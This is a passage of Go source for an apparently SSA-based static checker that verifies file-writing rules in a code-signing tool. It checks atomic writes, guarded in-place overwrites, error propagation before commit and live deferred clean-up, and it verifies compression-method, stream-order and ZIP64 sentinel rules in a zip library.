				n++
				key := fmt.Sprintf("%s %s#%d", p.FName(fn), name, n)
				if name == "os.OpenFile" {
					if fl, ok := constInt(ci.Common().Args[1]); ok && fl&(1|2|0x40|0x200|0x400) == 0 {
						c.Pass(rc, key, p.Pos(ci.Pos()), "read-only open")
						continue
					}
				}
				if p.isTempScratch(fn, ci) {
					c.Pass(rc, key, p.Pos(ci.Pos()), "scratch file in the system temp directory, removed by defer")
					continue
				}
				c.Fail(rc, key, p.Pos(ci.Pos()), fmt.Sprintf("%s reachable from an Apply implementation: output must be produced through lib/atomicfile (write-then-rename)", name))
			}
		}
	}
	c.Note("R13c: %d module functions reachable from %d Apply roots (static calls + module interfaces)", nReach, len(roots))
	// the sign commands themselves (the paths around Apply: opening the input for patching, the
	// --if-unsigned shortcut, error exits): nothing there creates or truncates a file either, logs
	// opened for appending excepted
	var cmdRoots []*ssa.Function
	for _, spec := range []string{"cmdline/token.signCmd", "cmdline/remotecmd.signCmd", "cmdline/shared.OpenForPatching"} {
		if f := p.Func(spec); f != nil {
			cmdRoots = append(cmdRoots, f)
		} else {
			c.Undecided(rc, spec, "-", "function not found")
		}
	}
	done := map[*ssa.Function]bool{}
	for _, f := range fns {
		done[f] = true
	}
	var cmdFns []*ssa.Function
	for f := range p.moduleReach(cmdRoots, map[string]bool{"lib/atomicfile": true}) {
		if !done[f] {
			cmdFns = append(cmdFns, f)
		}
	}
	sort.Slice(cmdFns, func(i, j int) bool { return p.FName(cmdFns[i]) < p.FName(cmdFns[j]) })
	nCmd := 0
	for _, fn := range cmdFns {
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				name := p.calleeName(ci.Common())
				switch name {
				case "os.Create", "os.WriteFile", "io/ioutil.WriteFile", "os.Truncate":
				case "os.OpenFile":
					fl, ok := constInt(ci.Common().Args[1])
					if ok && (fl&(0x40|0x200) == 0 || fl&0x400 != 0) {
						continue // neither creates nor truncates, or a log opened for appending
					}
				default:
					continue
				}
				if p.isTempScratch(fn, ci) {
					continue
				}
				n++
				nCmd++
				c.Analysed(p.FName(fn))
				c.Fail(rc, fmt.Sprintf("%s %s#%d (sign command path)", p.FName(fn), name, n), p.Pos(ci.Pos()), fmt.Sprintf("%s on a path of the sign command creates or truncates a file directly: whatever it writes there is not written to a temporary file and renamed, so an interrupted run leaves a partial or empty file at that path", name))
			}
		}
	}
	c.PassTrivial(rc, "sign command paths create files only through lib/atomicfile", "-", fmt.Sprintf("%d further functions reachable from the sign commands, %d direct creations", len(cmdFns), nCmd))
	// source file writes in binpatch.Apply only under canOverwrite
	if ap := p.Func("lib/binpatch.(*PatchSet).Apply"); ap != nil && len(ap.Params) >= 2 {
		infile := ap.Params[1]
		can := p.callGuard("canOverwrite()==true", []string{"lib/binpatch.canOverwrite"}, -1, IsTrue, nil)
		lst := p.callGuard("Lstat err==nil", []string{"os.Lstat"}, 1, IsNil, nil)
		stt := p.callGuard("Stat err==nil", []string{"(*os.File).Stat"}, 1, IsNil, nil)
		n := 0
		var inPlace []ssa.CallInstruction
		for _, ci := range p.callsIn(ap, "(*os.File).WriteAt", "(*os.File).Write", "(*os.File).Truncate", "(*os.File).WriteString") {
			if ci.Common().Args[0] == infile {
				inPlace = append(inPlace, ci)
			}
		}
		// or the call of a step of Apply that was given a name and makes those writes on the same file
		if site := p.applyInPlaceSite(); site != nil {
			for _, sk := range site.sinks {
				dup := false
				for _, k := range inPlace {
					if k == sk {
						dup = true
					}
				}
				passes := false
				for _, a := range sk.Common().Args {
					if a == ssa.Value(infile) {
						passes = true
					}
				}
				if !dup && passes {
					inPlace = append(inPlace, sk, sk) // stands for the WriteAt loop and the Truncate
				}
			}
		}
		for _, ci := range inPlace {
			n++
			missing, path := p.unguardedFromEntry(ap, ci, lst, stt)
			if m2, p2 := p.overwriteMissing(ap, ci); len(m2) > 0 {
				missing, path = append(missing, m2...), p2
			}
			_ = can
			c.Check(len(missing) == 0, rc, fmt.Sprintf("(*lib/binpatch.PatchSet).Apply in-place %s#%d", p.calleeName(ci.Common()), n), p.Pos(ci.Pos()), "in-place write only when canOverwrite proved it safe", fmt.Sprintf("the input file is modified in place without %v", missing), path...)
		}
		c.Check(n >= 2, rc, "(*lib/binpatch.PatchSet).Apply in-place writes found", p.Pos(ap.Pos()), "", "in-place WriteAt/Truncate not found")
		// canOverwrite itself: true only if regular, same file, no hard links
		for _, co := range overwriteClassifiers(p) {
			reg, same, nolinks := overwriteConjuncts(p)
			for i, r := range returnsOf(co) {
				if b, ok := boolConst(retVal(r, 0)); ok && !b {
					continue
				}
				missing, path := p.trueReturnMissing(co, r, 0, reg, same, nolinks)
				c.Check(len(missing) == 0, rc, fmt.Sprintf("%s return#%d", p.FName(co), i+1), p.Pos(r.Pos()), "true only for a regular, identical, singly-linked file", fmt.Sprintf("%s can return true without %v", p.FName(co), missing), path...)
			}
		}
	}

	// ---- R13d error propagation in the output paths
	for _, spec := range []string{"lib/binpatch.(*PatchSet).applyRewrite", "lib/binpatch.(*PatchSet).Apply", "lib/atomicfile.WriteInPlace", "lib/atomicfile.WriteFile", "signers.(fileProducer).Apply", "signers.ApplyBinPatch"} {
		fn := p.Func(spec)
		if fn == nil && spec == "lib/binpatch.(*PatchSet).applyRewrite" {
			fn = binpatchRewriteFn(p)
		}
		if fn == nil {
			spec2 := spec
			c.Undecided(rd, spec2, "-", "function not found")
			continue
		}
		c.Analysed(p.FName(fn))
		n := map[string]int{}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				name := p.calleeName(ci.Common())
				if rwf := binpatchRewriteFn(p); rwf != nil && ci.Common().StaticCallee() == rwf {
					name = "(*lib/binpatch.PatchSet).applyRewrite"
				}
				switch name {
				case "io.Copy", "io.CopyN", "(*os.File).Seek", "(*os.File).WriteAt", "(*os.File).Truncate", "(io.Writer).Write", "(io.Seeker).Seek",
					"(lib/atomicfile.AtomicFile).Commit", "lib/binpatch.Load", "(*lib/binpatch.PatchSet).Apply", "io/ioutil.ReadAll", "io.ReadAll", "(*lib/binpatch.PatchSet).applyRewrite":
				default:
					continue
				}
				if _, isDefer := in.(*ssa.Defer); isDefer {
					continue
				}
				n[name]++
				key := fmt.Sprintf("%s %s#%d", p.FName(fn), name, n[name])
				if errDisposition(ci) == errDropped {
					c.Fail(rd, key, p.Pos(ci.Pos()), "error result discarded: a short write / failed copy would be committed as complete output")
					continue
				}
				ev := errValueOf(ci)
				direct := false
				for _, r := range *ci.(*ssa.Call).Referrers() {
					if _, ok := r.(*ssa.Return); ok {
						direct = true
					}
				}
				if direct {
					c.Pass(rd, key, p.Pos(ci.Pos()), "returned directly")
					continue
				}
				if r, path := p.failureReachesSuccess(fn, ev); r != nil {
					c.Fail(rd, key, p.Pos(ci.Pos()), "the failure branch of this call reaches a success return at "+p.Pos(r.Pos()), path...)
				} else {
					c.Pass(rd, key, p.Pos(ci.Pos()), "error propagated")
				}
			}
		}
	}
}

// c13CommitAfterSuccess: for every error-returning call K that can execute between the
// acquisition and a Commit of the same file, K's error must be examined and its failure
// edge must not reach the Commit (a failed merge/copy must never be committed as the
// complete new content).
func c13CommitAfterSuccess(c *Ctx, fn *ssa.Function, acq *ssa.Call, res ssa.Value, key string) {
	p := c.P
	const rule = "R13e"
	set, _ := aliasesOf(res)
	var commits []*ssa.Call
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if ci, ok := in.(*ssa.Call); ok && p.isMethodCallOn(ci, set, map[string]bool{"Commit": true}) {
				commits = append(commits, ci)
			}
		}
	}
	if len(commits) == 0 {
		return
	}
	n := 0
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			k, ok := in.(*ssa.Call)
			if !ok || k == acq || errResultIndex(k.Common().Signature()) < 0 {
				continue
			}
			isCommit := false
			for _, cm := range commits {
				if cm == k {
					isCommit = true
				}
			}
			if isCommit || !reachableAfter(fn, acq, k, nil, nil) {
				continue
			}
			var after []*ssa.Call
			for _, cm := range commits {
				if reachableAfter(fn, k, cm, nil, nil) {
					after = append(after, cm)
				}
			}
			if len(after) == 0 {
				continue
			}
			name := p.describeCall(k)
			// closing an *input* is not a step of producing the output
			if obj := calleeObj(k.Common()); obj != nil && (obj.Name() == "Close" || obj.Name() == "Chmod") && !p.isMethodCallOn(k, set, map[string]bool{"Close": true}) {
				continue
			}
			n++
			okey := fmt.Sprintf("%s then-commit %s#%d", key, name, n)
			if errDisposition(k) == errDropped {
				c.Fail(rule, okey, p.Pos(k.Pos()), "the error of this step is never examined, yet Commit follows: a failed or partial write would replace the destination as if complete")
				continue
			}
			ev := errValueOf(k)
			edges := passEdges(fn, errNonNilGuard(ev))
			var starts []*ssa.BasicBlock
			for e := range edges {
				starts = append(starts, fn.Blocks[e.from].Succs[e.succ])
			}
			bad := false
			var path []string
			if len(starts) > 0 {
				pred := map[int]int{}
				seen := reach(fn, starts, nil, pred)
				for _, cm := range after {
					if seen[cm.Block().Index] {
						bad = true
						path = p.witness(fn, pred, cm.Block().Index)
					}
				}
			}
			c.Check(!bad, rule, okey, p.Pos(k.Pos()), "failure of this step cannot reach Commit", "Commit is reachable from the failure branch of this step: a partially written file replaces the destination", path...)
		}
	}
}

// isTempScratch: os.CreateTemp("", …) whose file is removed by a deferred os.Remove in
// the same function (scratch space, not an output).
func (p *Prog) isTempScratch(fn *ssa.Function, ci ssa.CallInstruction) bool {
	n := p.calleeName(ci.Common())
	if n == "os.Remove" {
		_, isDefer := ci.(*ssa.Defer)
		return isDefer
	}
	if n != "os.CreateTemp" && n != "io/ioutil.TempFile" {
		return false
	}
	if s, ok := constString(ci.Common().Args[0]); !ok || s != "" {
		return false
	}
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if d, ok := in.(*ssa.Defer); ok && p.calleeName(d.Common()) == "os.Remove" {
				return true
			}
		}
	}
	return false
}

// c13SpecialGuards: os.Stat succeeded, and the mode it reported is not regular.
func c13SpecialGuards(p *Prog) (Guard, Guard) {
	notReg := p.callGuard("Stat(path).Mode().IsRegular()==false", []string{"(io/fs.FileMode).IsRegular"}, -1, IsFalse, func(ci ssa.CallInstruction) bool {
		return dependsOn(ci.Common().Args[0], func(x ssa.Value) bool {
			call, _ := resultOf(x)
			return call != nil && p.calleeName(call.Common()) == "os.Stat"
		})
	})
	statOK := p.callGuard("os.Stat err==nil", []string{"os.Stat"}, 1, IsNil, nil)
	return notReg, statOK
}

// c13Classifiers: the functions of lib/atomicfile that answer a boolean about a path by asking
// os.Stat (isSpecial today) - found by shape, not by name.
func c13Classifiers(p *Prog) []*ssa.Function {
	var out []*ssa.Function
	for _, fn := range p.pkgFuncs("lib/atomicfile") {
		res := fn.Signature.Results()
		if res.Len() != 1 || !isBool(res.At(0).Type()) || len(p.callsIn(fn, "os.Stat")) == 0 {
			continue
		}
		out = append(out, fn)
	}
	return out
}

// atomicTempInDestDir: the temporary file of atomicfile.New is created in filepath.Dir(dest) - the
// directory of the destination (".", not $TMPDIR, for a bare file name), so that the rename stays
// on one filesystem. Shared by C13 R13a and C12 R12l.
func atomicTempInDestDir(p *Prog, nw *ssa.Function, tmp ssa.CallInstruction) bool {
	dirArg := tmp.Common().Args[0]
	if dc, ok := dirArg.(*ssa.Call); ok && p.calleeName(dc.Common()) == "path/filepath.Dir" && len(nw.Params) > 0 && dc.Call.Args[0] == nw.Params[0] {
		return true
	}
	return false
}

// ------------------------------------------------------------------------------ R13i

// deferredGuardsLive: `defer func() { if err != nil { out.Close(); os.Remove(tmp) } }()` cleans up
// only if the err it captured is the variable the failing steps assign. When every later step
// declares its own err (`if _, err := ...`), nothing stores into the captured variable after the
// defer statement: the guard is decided when the defer is registered and the clean-up never runs -
// the temporary file stays behind on every failure. Reported for every deferred closure that
// branches on a captured variable with no store reachable after the defer (named results are
// assigned by every return, so they never qualify).
func deferredGuardsLive(p *Prog) (out []gFinding) {
	for _, fn := range p.Funcs {
		nD := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				df, ok := in.(*ssa.Defer)
				if !ok {
					continue
				}
				mc, ok := df.Call.Value.(*ssa.MakeClosure)
				if !ok {
					continue
				}
				cf, ok := mc.Fn.(*ssa.Function)
				if !ok || cf.Blocks == nil {
					continue
				}
				for fi, fv := range cf.FreeVars {
					if fi >= len(mc.Bindings) {
						continue
					}
					cell, ok := mc.Bindings[fi].(*ssa.Alloc)
					if !ok {
						continue
					}
					// the closure branches on the variable
					guards := false
					for _, cb := range cf.Blocks {
						ifi, ok := cb.Instrs[len(cb.Instrs)-1].(*ssa.If)
						if !ok {
							continue
						}
						if dependsOnNoCall(ifi.Cond, func(x ssa.Value) bool {
							l, ok := x.(*ssa.UnOp)
							return ok && l.Op == token.MUL && l.X == ssa.Value(fv)
						}) {
							guards = true
						}
					}
					if !guards {
						continue
					}
					// a named result is stored by every return; another closure may assign it too
					isResult := false
					for ri := 0; ri < fn.Signature.Results().Len(); ri++ {
						if rv := fn.Signature.Results().At(ri); rv.Name() != "" && rv.Name() == cell.Comment && rv.Pos() == cell.Pos() {
							isResult = true
						}
					}
					if isResult {
						continue
					}
					later := false
					for _, r := range *cell.Referrers() {
						switch x := r.(type) {
						case *ssa.Store:
							if x.Addr == ssa.Value(cell) && reachableAfter(fn, df, x, nil, nil) {
								later = true
							}
						case *ssa.MakeClosure:
							if x != mc {
								later = true // shared with another closure: it may assign
							}
						case *ssa.Call, *ssa.Defer, *ssa.Go:
							later = true // address handed on
						}
					}
					// the closure itself may assign it
					for _, cb := range cf.Blocks {
						for _, cin := range cb.Instrs {
							if st, ok := cin.(*ssa.Store); ok && st.Addr == ssa.Value(fv) {
								later = true
							}
						}
					}
					nD++
					out = append(out, gFinding{Key: fmt.Sprintf("%s deferred clean-up#%d asks a variable that is still assigned", p.FName(fn), nD), Pos: p.Pos(df.Pos()), OK: later,
						Detail: "the deferred clean-up is conditional on `" + cell.Comment + "`, but nothing assigns that variable once the defer is registered (the later steps declare their own): the clean-up never runs, and what it was to close or remove stays behind on every failure"})
				}
			}
		}
	}
	return out
}

// overwriteConjuncts: what makes writing the input in place safe: the output path is a regular
// file, the very file being read, and has no other hard link.
func overwriteConjuncts(p *Prog) (Guard, Guard, Guard) {
	reg := p.callGuard("IsRegular()==true", []string{"(io/fs.FileMode).IsRegular"}, -1, IsTrue, nil)
	same := p.callGuard("SameFile()==true", []string{"os.SameFile"}, -1, IsTrue, nil)
	nolinks := p.callGuard("hasLinks()==false", []string{"lib/binpatch.hasLinks"}, -1, IsFalse, nil)
	return reg, same, nolinks
}

// overwriteClassifiers: the boolean functions of lib/binpatch that ask os.SameFile (canOverwrite
// today) - found by shape; their true returns are checked against the three conjuncts.
func overwriteClassifiers(p *Prog) []*ssa.Function {
	var out []*ssa.Function
	for _, fn := range p.pkgFuncs("lib/binpatch") {
		res := fn.Signature.Results()
		if res.Len() == 1 && isBool(res.At(0).Type()) && len(p.callsIn(fn, "os.SameFile")) > 0 {
			out = append(out, fn)
		}
	}
	return out
}

// overwriteMissing: which of the conjuncts can be missing on a way to `at` - through a classifier of
// the package that answered true, or through the three tests made in fn itself.
func (p *Prog) overwriteMissing(fn *ssa.Function, at ssa.Instruction) ([]string, []string) {
	for _, co := range overwriteClassifiers(p) {
		g := p.callGuard(p.FName(co)+"()==true", []string{p.FName(co)}, -1, IsTrue, nil)
		if m, _ := p.unguardedFromEntry(fn, at, g); len(m) == 0 {
			return nil, nil
		}
	}
	reg, same, nolinks := overwriteConjuncts(p)
	m, path := p.unguardedFromEntry(fn, at, reg, same, nolinks)
	if len(m) > 0 && len(overwriteClassifiers(p)) > 0 {
		m = []string{"canOverwrite()==true"}
	}
	return m, path
}
