package main

// C17, second part: rules about how the records are used rather than how they are laid out.
//
// R17i — in NewFile the compression method recorded for a member is the one that produced
//        the bytes written for it.
// R17j — single-pass order: within one iteration over a member, nothing reads the member's
//        body after its data descriptor / total size has been asked for.
// R17k — a 32-bit size/offset field of a record is compared with a 64-bit size only behind
//        the ZIP64 sentinel test.

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// valuesAlongPaths: the values `target` can have at instruction `at`, over all CFG paths
// that start right after instruction `from`, with phis resolved along each path.
func valuesAlongPaths(fn *ssa.Function, from ssa.Instruction, target ssa.Value, at ssa.Instruction, kill map[int]bool) []ssa.Value {
	// phis in the backward slice of target
	chain := map[*ssa.Phi]bool{}
	var collect func(v ssa.Value)
	collect = func(v ssa.Value) {
		if ph, ok := v.(*ssa.Phi); ok && !chain[ph] {
			chain[ph] = true
			for _, e := range ph.Edges {
				collect(e)
			}
		}
	}
	collect(target)
	var order []*ssa.Phi
	for ph := range chain {
		order = append(order, ph)
	}
	sort.Slice(order, func(i, j int) bool {
		return order[i].Pos() < order[j].Pos() || (order[i].Pos() == order[j].Pos() && order[i].Name() < order[j].Name())
	})
	type state struct {
		b   int
		env string
	}
	enc := func(env map[*ssa.Phi]ssa.Value) string {
		var sb strings.Builder
		for _, ph := range order {
			if v, ok := env[ph]; ok {
				sb.WriteString(v.Name() + "=" + v.String() + ";")
			} else {
				sb.WriteString("?;")
			}
		}
		return sb.String()
	}
	resolve := func(v ssa.Value, env map[*ssa.Phi]ssa.Value) ssa.Value {
		for i := 0; i < 8; i++ {
			ph, ok := v.(*ssa.Phi)
			if !ok {
				return v
			}
			r, ok := env[ph]
			if !ok {
				return v
			}
			v = r
		}
		return v
	}
	seen := map[state]bool{}
	outSet := map[ssa.Value]bool{}
	var out []ssa.Value
	type item struct {
		b   *ssa.BasicBlock
		env map[*ssa.Phi]ssa.Value
	}
	record := func(env map[*ssa.Phi]ssa.Value) {
		v := resolve(target, env)
		if !outSet[v] {
			outSet[v] = true
			out = append(out, v)
		}
	}
	start := from.Block()
	if at.Block() == start && instrIndex(at) > instrIndex(from) {
		record(map[*ssa.Phi]ssa.Value{})
		return out
	}
	work := []item{}
	step := func(b *ssa.BasicBlock, env map[*ssa.Phi]ssa.Value) {
		for _, s := range b.Succs {
			ne := map[*ssa.Phi]ssa.Value{}
			for k, v := range env {
				ne[k] = v
			}
			pi := -1
			for i, pb := range s.Preds {
				if pb == b {
					pi = i
				}
			}
			// parallel assignment of the block's phis
			upd := map[*ssa.Phi]ssa.Value{}
			for _, in := range s.Instrs {
				ph, ok := in.(*ssa.Phi)
				if !ok {
					break
				}
				if chain[ph] && pi >= 0 {
					upd[ph] = resolve(ph.Edges[pi], env)
				}
			}
			for k, v := range upd {
				ne[k] = v
			}
			st := state{s.Index, enc(ne)}
			if seen[st] {
				continue
			}
			seen[st] = true
			work = append(work, item{s, ne})
		}
	}
	step(start, map[*ssa.Phi]ssa.Value{})
	for len(work) > 0 {
		it := work[0]
		work = work[1:]
		if kill[it.b.Index] {
			continue // what was written before is discarded on this path
		}
		if it.b == at.Block() {
			record(it.env)
			continue
		}
		step(it.b, it.env)
	}
	return out
}

func c17Method(c *Ctx) {
	p := c.P
	fn := p.Func("lib/zipslicer.(*Directory).NewFile")
	if fn == nil {
		c.Undecided("R17i", "(*Directory).NewFile", "-", "function not found")
		return
	}
	// the store of File.Method
	var mst *ssa.Store
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if st, ok := in.(*ssa.Store); ok {
				if tn, f, _ := p.fieldAddr(st.Addr); tn == "lib/zipslicer.File" && f == "Method" {
					mst = st
				}
			}
		}
	}
	if mst == nil {
		c.Undecided("R17i", p.FName(fn)+" Method store", p.Pos(fn.Pos()), "the assignment of File.Method was not found")
		return
	}
	var contents *ssa.Parameter
	for _, pa := range fn.Params {
		if pa.Name() == "contents" {
			contents = pa
		}
	}
	if contents == nil {
		c.Undecided("R17i", p.FName(fn)+" contents parameter", p.Pos(fn.Pos()), "parameter not found")
		return
	}
	// blocks in which the member buffer is emptied again (what was written before does not count)
	kill := map[int]bool{}
	for _, ci := range p.callsIn(fn, "(*bytes.Buffer).Reset", "(*bytes.Buffer).Truncate") {
		kill[ci.Block().Index] = true
	}
	n := 0
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			ci, ok := in.(ssa.CallInstruction)
			if !ok {
				continue
			}
			name := p.calleeName(ci.Common())
			var want int64
			kind := ""
			switch {
			case (name == "(*bytes.Buffer).Write" || name == "(*bytes.Buffer).WriteString") && len(ci.Common().Args) > 1 && ci.Common().Args[1] == ssa.Value(contents):
				// only writes into the member buffer (crc.Write(contents) is a hash)
				want, kind = 0, "the uncompressed bytes are copied into the member"
			case name == "(*compress/flate.Writer).Write" && len(ci.Common().Args) > 1 && ci.Common().Args[1] == ssa.Value(contents):
				want, kind = 8, "the bytes are deflated into the member"
			default:
				continue
			}
			if !reachableAfter(fn, ci, mst, nil, nil) {
				continue
			}
			n++
			key := fmt.Sprintf("%s member-data#%d method=%d", p.FName(fn), n, want)
			k2 := map[int]bool{}
			for bi := range kill {
				// a reset in the site's own block before the site does not discard it
				if bi != ci.Block().Index {
					k2[bi] = true
				} else {
					for _, rc := range p.callsIn(fn, "(*bytes.Buffer).Reset", "(*bytes.Buffer).Truncate") {
						if rc.Block() == ci.Block() && instrIndex(rc) > instrIndex(ci) {
							k2[bi] = true
						}
					}
				}
			}
			if k2[ci.Block().Index] {
				c.PassTrivial("R17i", key, p.Pos(ci.Pos()), "the buffer is emptied again in the same block")
				continue
			}
			vals := valuesAlongPaths(fn, ci, stripConvAll(mst.Val), mst, k2)
			ok2 := true // no surviving path: every continuation empties the buffer again
			var got []string
			for _, v := range vals {
				k, isK := constInt(stripConvAll(v))
				got = append(got, short(v.String(), 20))
				if !isK || k != want {
					ok2 = false
				}
			}
			c.Check(ok2, "R17i", key, p.Pos(ci.Pos()), fmt.Sprintf("%s and File.Method is %d on every path from here", kind, want),
				fmt.Sprintf("%s here, but on a path from here File.Method is recorded as %v (want %d): readers inflate stored bytes or copy deflated ones, and the member cannot be read back", kind, got, want))
		}
	}
	if n < 2 {
		c.Undecided("R17i", p.FName(fn)+" member data sites", p.Pos(fn.Pos()), fmt.Sprintf("only %d sites writing the member's data found (2 confirmed by reading: deflate and store)", n))
	}
}

// ------------------------------------------------------------------------------ R17j

var c17TailCalls = map[string]int{ // callee -> index of the member argument
	"(*lib/zipslicer.File).GetTotalSize":      0,
	"(*lib/zipslicer.File).GetDataDescriptor": 0,
	"(*lib/zipslicer.File).readDataDesc":      0,
	"(*lib/zipslicer.Directory).AddFile":      1,
}

var c17BodyCalls = map[string]int{
	"(*lib/zipslicer.File).Open":          0,
	"(*lib/zipslicer.File).OpenAndTeeRaw": 0,
	"(*lib/zipslicer.File).Digest":        0,
	"(*lib/zipslicer.File).Dump":          0,
}

func c17StreamOrder(c *Ctx) {
	p := c.P
	nTail := 0
	for _, fn := range p.Funcs {
		type site struct {
			ci  ssa.CallInstruction
			m   ssa.Value
			why string
		}
		var tails, bodies []site
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				if _, isDefer := in.(*ssa.Defer); isDefer {
					continue
				}
				name := p.calleeName(ci.Common())
				if i, ok := c17TailCalls[name]; ok && i < len(ci.Common().Args) {
					// the method's own receiver inside zipslicer (f.readDataDesc() in GetTotalSize) is not an iteration
					tails = append(tails, site{ci, ci.Common().Args[i], name})
				}
				if i, ok := c17BodyCalls[name]; ok && i < len(ci.Common().Args) {
					bodies = append(bodies, site{ci, ci.Common().Args[i], name})
				}
				// reading the member's bytes straight from the underlying reader
				if name == "io.NewSectionReader" && len(ci.Common().Args) > 0 {
					if l, ok := stripConv(ci.Common().Args[0]).(*ssa.UnOp); ok && l.Op == token.MUL {
						if fa, ok := l.X.(*ssa.FieldAddr); ok {
							if tn, f, base := p.fieldAddr(fa); tn == "lib/zipslicer.File" && f == "r" {
								// only reads of the member's data (offset derives from lfh lengths), not header reads
								if dependsOn(ci.Common().Args[1], func(x ssa.Value) bool {
									t2, f2, _ := p.fieldLoad(x)
									return t2 == "lib/zipslicer.zipLocalHeader" && (f2 == "FilenameLen" || f2 == "ExtraLen")
								}) {
									bodies = append(bodies, site{ci, base, "read of the member data from the underlying reader"})
								}
							}
						}
					}
				}
				// a MangleFunc callback receives the member and may read it
				if ci.Common().StaticCallee() == nil && !ci.Common().IsInvoke() {
					if strings.HasSuffix(ci.Common().Value.Type().String(), "lib/zipslicer.MangleFunc") && len(ci.Common().Args) > 0 {
						bodies = append(bodies, site{ci, ci.Common().Args[0], "MangleFunc callback"})
					}
				}
			}
		}
		if len(tails) == 0 {
			continue
		}
		nT := 0
		for _, t := range tails {
			nT++
			nTail++
			key := fmt.Sprintf("%s size/descriptor query#%d", p.FName(fn), nT)
			c.Analysed(p.FName(fn))
			bad := ""
			for _, b := range bodies {
				// the same member: one value, or one a copy of the other through merges, conversions and
				// local cells - not "computed from something the other was stored into" (the index of a
				// second loop derived from how many members the first loop added)
				same := b.m == t.m || dependsOnNoCall(b.m, func(x ssa.Value) bool { return x == t.m }) || dependsOnNoCall(t.m, func(x ssa.Value) bool { return x == b.m })
				if !same {
					// copies of one member: *mf = *f
					if root := c17MemberRoot(t.m); root != nil && root == c17MemberRoot(b.m) {
						same = true
					}
				}
				if !same {
					continue
				}
				// within the same iteration: do not re-enter the block that (re)defines the member
				del := map[edge]bool{}
				if def, ok := c17MemberRoot(t.m).(ssa.Instruction); ok && def.Block() != nil {
					db := def.Block()
					if inCycleWith(fn, db, nil) {
						for _, pb := range db.Preds {
							for si, sb := range pb.Succs {
								if sb == db {
									del[edge{pb.Index, si}] = true
								}
							}
						}
					}
				}
				if reachableAfter(fn, t.ci, b.ci, del, nil) {
					bad = fmt.Sprintf("%s at %s can run after %s at %s", b.why, p.Pos(b.ci.Pos()), t.why, p.Pos(t.ci.Pos()))
				}
			}
			c.Check(bad == "", "R17j", key, p.Pos(t.ci.Pos()), "nothing reads the member's body afterwards in the same iteration",
				"the member's body is read after its data descriptor / total size was asked for ("+bad+"): fetching the descriptor moves a single-pass stream past the body, so in streaming mode (ReadZipTar, the server side of every zip-based signer) the read fails with \"attempted to seek backwards\"")
		}
	}
	if nTail < 6 {
		c.Undecided("R17j", "size/descriptor query sites", "-", fmt.Sprintf("only %d found (8 confirmed by reading)", nTail))
	}
}

// c17MemberRoot: the value a member expression is a copy of (mf := &MangleFile{File: *f} -> f).
func c17MemberRoot(v ssa.Value) ssa.Value {
	for i := 0; i < 6; i++ {
		switch x := v.(type) {
		case *ssa.FieldAddr:
			v = x.X
			continue
		case *ssa.Alloc:
			// stored from a load of another member?
			var src ssa.Value
			for _, r := range *x.Referrers() {
				var addr ssa.Value
				var val ssa.Value
				if st, ok := r.(*ssa.Store); ok {
					addr, val = st.Addr, st.Val
				}
				if fa, ok := r.(*ssa.FieldAddr); ok {
					for _, rr := range *fa.Referrers() {
						if st, ok := rr.(*ssa.Store); ok && st.Addr == ssa.Value(fa) {
							addr, val = st.Addr, st.Val
						}
					}
				}
				if addr == nil {
					continue
				}
				if l, ok := val.(*ssa.UnOp); ok && l.Op == token.MUL && strings.HasSuffix(l.Type().String(), "lib/zipslicer.File") {
					src = l.X
				}
			}
			if src == nil {
				return v
			}
			v = src
			continue
		case *ssa.UnOp:
			return v
		}
		return v
	}
	return v
}

// ------------------------------------------------------------------------------ R17k

// sentinelCompares: comparisons of a widened 32-bit size/offset field of a ZIP record with a
// 64-bit non-constant value, and whether the ZIP64 sentinel test guards them.
func sentinelCompares(p *Prog) (out []gFinding) {
	isRecField := func(v ssa.Value) (string, bool) {
		cv, ok := v.(*ssa.Convert)
		if !ok || intWidth(cv.Type()) != 64 || intWidth(cv.X.Type()) != 32 {
			return "", false
		}
		tn, f, _ := p.fieldLoad(stripConvAll(cv.X))
		if tn == "" {
			return "", false
		}
		base := tn[strings.LastIndex(tn, ".")+1:]
		switch base {
		case "zipLocalHeader", "zipCentralDir", "zipDataDesc":
		default:
			return "", false
		}
		switch f {
		case "CompressedSize", "UncompressedSize", "Offset":
			return tn + "." + f, true
		}
		return "", false
	}
	n := map[*ssa.Function]int{}
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				bo, ok := in.(*ssa.BinOp)
				if !ok {
					continue
				}
				switch bo.Op {
				case token.EQL, token.NEQ, token.LSS, token.LEQ, token.GTR, token.GEQ:
				default:
					continue
				}
				for _, pr := range [][2]ssa.Value{{bo.X, bo.Y}, {bo.Y, bo.X}} {
					field, ok := isRecField(pr[0])
					if !ok {
						continue
					}
					if _, isK := pr[1].(*ssa.Const); isK {
						continue // the sentinel test itself, or a fixed bound
					}
					n[fn]++
					key := fmt.Sprintf("%s compares %s#%d", p.FName(fn), field, n[fn])
					// guard: a comparison of the same field (32-bit or widened) with 0xffffffff on every path
					fkey := "f:" + field
					g := Guard{Name: field + " sentinel test", Match: func(f Fact) bool {
						cmp, ok := f.V.(*ssa.BinOp)
						if !ok || (cmp.Op != token.EQL && cmp.Op != token.NEQ) {
							return false
						}
						for _, q := range [][2]ssa.Value{{cmp.X, cmp.Y}, {cmp.Y, cmp.X}} {
							if !isIntConst(stripConvAll(q[1]), 0xffffffff) {
								continue
							}
							if p.memKey(stripConvAll(q[0])) == fkey {
								// the edge on which the field is NOT the sentinel
								return (cmp.Op == token.NEQ && f.Kind == IsTrue) || (cmp.Op == token.EQL && f.Kind == IsFalse)
							}
						}
						return false
					}}
					missing, path := p.unguardedFromEntry(fn, bo, g)
					out = append(out, gFinding{Key: key, Pos: p.Pos(bo.Pos()), OK: len(missing) == 0, Path: path,
